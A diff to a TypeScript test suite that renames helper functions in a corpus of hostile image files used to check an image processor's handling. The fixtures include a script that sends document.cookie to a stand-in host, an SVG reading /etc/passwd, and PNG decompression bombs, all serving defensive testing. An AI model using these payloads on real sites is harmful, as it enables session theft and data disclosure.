@@ -20,7 +20,7 @@ const jpeg = await plainPicture().jpeg().toBuffer()
 const png = await plainPicture().png().toBuffer()
 const webp = await plainPicture().webp().toBuffer()
 const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
-const svg = (inside: string) =>
+const createSvg = (inside: string) =>
   Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">${inside}</svg>`)
 
 /** Returns a PNG with a header, picture data and at most one extra chunk. */
@@ -34,14 +34,14 @@ function createPng(
   header.set([8, options.colour ?? 0, 0, 0, 0], 8)
   return Buffer.concat([
     Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
-    chunk('IHDR', header),
+    createChunk('IHDR', header),
     options.extra ?? Buffer.alloc(0),
-    chunk('IDAT', deflateSync(options.rows ?? Buffer.alloc(64))),
-    chunk('IEND', Buffer.alloc(0)),
+    createChunk('IDAT', deflateSync(options.rows ?? Buffer.alloc(64))),
+    createChunk('IEND', Buffer.alloc(0)),
   ])
 }
 
-function chunk(type: string, data: Buffer): Buffer {
+function createChunk(type: string, data: Buffer): Buffer {
   const length = Buffer.alloc(4)
   length.writeUInt32BE(data.length)
   const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
@@ -50,12 +50,11 @@ function chunk(type: string, data: Buffer): Buffer {
   return Buffer.concat([length, body, checksum])
 }
 
-/** Inserts bytes at a position of a file. */
-const insertBytes = (file: Buffer, at: number, inserted: Buffer) =>
-  Buffer.concat([file.subarray(0, at), inserted, file.subarray(at)])
+const insertBytes = (file: Buffer, offset: number, inserted: Buffer) =>
+  Buffer.concat([file.subarray(0, offset), inserted, file.subarray(offset)])
 
-/** Inserts a JPEG segment after the first marker. */
-function withSegment(marker: number, text: string): Buffer {
+/** Returns the JPEG with a segment after its first marker. */
+function insertJpegSegment(marker: number, text: string): Buffer {
   const payload = Buffer.from(text, 'latin1')
   const segmentHeader = Buffer.from([
     0xff,
@@ -80,10 +79,10 @@ const corpus: HostileFile[] = [
     bytes: Buffer.from(`<html>${script}</html>`),
     outcome: 'unsupported',
   },
-  { name: 'an SVG with a script', bytes: svg(script), outcome: 'unsupported' },
+  { name: 'an SVG with a script', bytes: createSvg(script), outcome: 'unsupported' },
   {
     name: 'an SVG that loads a file',
-    bytes: svg('<image href="file:///etc/passwd"/>'),
+    bytes: createSvg('<image href="file:///etc/passwd"/>'),
     outcome: 'unsupported',
   },
   {
@@ -93,10 +92,10 @@ const corpus: HostileFile[] = [
     ),
     outcome: 'unsupported',
   },
-  { name: 'a gzipped SVG', bytes: gzipSync(svg(script)), outcome: 'unsupported' },
+  { name: 'a gzipped SVG', bytes: gzipSync(createSvg(script)), outcome: 'unsupported' },
   {
     name: 'an SVG after a byte order mark',
-    bytes: Buffer.from(`\ufeff  ${svg(script)}`),
+    bytes: Buffer.from(`\ufeff  ${createSvg(script)}`),
     outcome: 'unsupported',
   },
   {
@@ -207,12 +206,12 @@ const corpus: HostileFile[] = [
   },
   {
     name: 'a JPEG with a page as its comment',
-    bytes: withSegment(0xfe, script),
+    bytes: insertJpegSegment(0xfe, script),
     outcome: 'harmless',
   },
   {
     name: 'a JPEG with XMP',
-    bytes: withSegment(0xe1, `http://ns.adobe.com/xap/1.0/\0${script}`),
+    bytes: insertJpegSegment(0xe1, `http://ns.adobe.com/xap/1.0/\0${script}`),
     outcome: 'harmless',
   },
   {
@@ -230,7 +229,7 @@ const corpus: HostileFile[] = [
     name: 'a PNG with a decompression bomb as text',
     bytes: createPng([width, height], {
       rows,
-      extra: chunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), bomb])),
+      extra: createChunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), bomb])),
     }),
     outcome: 'harmless',
   },
@@ -238,20 +237,23 @@ const corpus: HostileFile[] = [
     name: 'a PNG with a decompression bomb as colour profile',
     bytes: createPng([width, height], {
       rows,
-      extra: chunk('iCCP', Buffer.concat([Buffer.from('a\0\0'), bomb])),
+      extra: createChunk('iCCP', Buffer.concat([Buffer.from('a\0\0'), bomb])),
     }),
     outcome: 'harmless',
   },
   {
     name: 'a PNG with a page as text',
-    bytes: createPng([width, height], { rows, extra: chunk('tEXt', Buffer.from(`c\0${script}`)) }),
+    bytes: createPng([width, height], {
+      rows,
+      extra: createChunk('tEXt', Buffer.from(`c\0${script}`)),
+    }),
     outcome: 'harmless',
   },
   {
     name: 'an animated PNG',
     bytes: createPng([width, height], {
       rows,
-      extra: chunk('acTL', Buffer.from([0, 0, 0, 9, 0, 0, 0, 0])),
+      extra: createChunk('acTL', Buffer.from([0, 0, 0, 9, 0, 0, 0, 0])),
     }),
     outcome: 'harmless',
   },
